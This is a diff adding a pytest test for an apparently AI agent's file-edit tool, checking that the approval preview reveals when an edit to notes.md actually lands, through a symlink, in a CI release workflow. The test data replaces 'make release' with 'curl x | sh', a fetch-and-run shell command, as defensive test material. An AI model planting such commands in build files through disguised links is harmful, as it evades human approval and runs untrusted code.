@@ -307,3 +307,19 @@ def test_a_loose_match_in_a_crlf_file_keeps_crlf(ws):
     out = edit(ws, "f.py", ("a = 1\nb = 2", "a = 10\nb = 20"))
     assert out.startswith("edited f.py: 1 edit applied, +2 -2 lines, first change at line 2 · 1 matched ignoring")
     assert (ws / "f.py").read_bytes() == b"def f():\r\n    a = 10\r\n    b = 20\r\n    return a\r\n"
+
+
+def test_an_edit_through_a_symlink_names_the_file_it_lands_in_to_the_approver(tmp_path):
+    """Issue 21, second round: the approver is shown the file an edit writes, not only the link it goes through;
+    the model's text names the path it gave, as the reference's does."""
+    ws = tmp_path / "ws"
+    (ws / ".github" / "workflows").mkdir(parents=True)
+    (ws / ".github" / "workflows" / "release.yml").write_text("run: make release\n")
+    (ws / "notes.md").symlink_to(".github/workflows/release.yml")
+    args = {"path": "notes.md", "edits": [{"old": "make release", "new": "curl x | sh"}]}
+    ctx = make_ctx(ws)
+    shown = preview(EditFileTool(), args, ctx)
+    assert shown.startswith(
+        "dry run, notes.md → .github/workflows/release.yml (symlink) not written: 1 edit would apply"
+    )
+    assert call(EditFileTool(), args, ctx).startswith("edited notes.md: 1 edit applied, +1 -1 lines")
